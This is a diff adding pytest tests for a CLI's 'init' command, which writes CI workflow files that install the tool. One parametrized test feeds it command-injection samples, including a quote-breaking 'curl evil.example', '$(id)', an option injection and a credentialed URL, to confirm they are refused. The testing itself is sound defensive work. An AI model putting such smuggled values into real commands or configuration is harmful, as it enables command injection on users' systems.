@@ -6,8 +6,10 @@ import json
 import re
 import subprocess
 import sys
+from importlib.metadata import version
 from pathlib import Path
 
+import jsonschema  # type: ignore[import-untyped]  # has no stubs
 import pytest
 import yaml
 from hypothesis import given
@@ -161,6 +163,50 @@ async def test_the_job_of_the_forge(
 
 def read(path: str) -> str:
     return Path(path).read_text()
+
+
+@pytest.mark.parametrize("remote", ["github.com", "gitlab.com"])
+async def test_the_job_installs_what_it_is_told(place: Workplace, remote: str) -> None:
+    git(place.folder, "remote", "add", "origin", f"https://{remote}/acme/app")
+    source = "git+https://forge.example/ops/tagwatch@v0.3.0"
+    done = await place.run("init", "--from", source)
+    jobs = [*place.folder.rglob("*.yml")]
+    installs = [line for one in jobs for line in read(str(one)).splitlines() if "install " in line]
+    assert [line for line in installs if f'"{source}"' in line]
+    assert "tagwatch" not in re.sub(re.escape(source), "", " ".join(installs))
+    assert "make sure that" not in done.out, "an address needs no index"
+
+
+async def test_a_name_on_an_index_is_said_to_be_made_sure_of(place: Workplace) -> None:
+    """This installation came from a folder, which no job has: its version stands there instead."""
+    git(place.folder, "remote", "add", "origin", "https://github.com/acme/app")
+    done = await place.run("init")
+    job = read(str(place.folder / ".github/workflows/tagwatch.yml"))
+    assert f'pipx install "tagwatch=={version("tagwatch")}"' in job
+    assert "to do: make sure that 'tagwatch==" in done.out
+
+
+@pytest.mark.parametrize(
+    "source", ['a"; curl evil.example', "$(id)", "-r x.txt", "https://me:pw@host.example/a.whl", ""]
+)
+async def test_a_source_that_no_job_could_hold_is_refused(place: Workplace, source: str) -> None:
+    done = await place.run("init", f"--from={source}")
+    assert (done.code, done.out) == (2, "")
+    assert "is nothing that a job can give to pip" in done.err
+    assert not (place.folder / "tagwatch.yaml").exists()
+
+
+async def test_schemas_for_editors(place: Workplace) -> None:
+    done = await place.run("init", "--schema", "--format", "json")
+    for name in ("tagwatch", "policy"):
+        text = read(str(place.folder / f"{name}.yaml"))
+        assert text.splitlines()[0] == f"# yaml-language-server: $schema={name}.schema.json"
+        assert text.count("yaml-language-server") == 1
+        assert str(place.folder / f"{name}.schema.json") in done.json["written"]
+        schema = json.loads(read(str(place.folder / f"{name}.schema.json")))
+        jsonschema.validate(yaml.safe_load(text), schema)
+    again = await place.run("check", "--offline")
+    assert "error" not in again.err
 
 
 async def test_reports_are_ignored_once(place: Workplace) -> None:
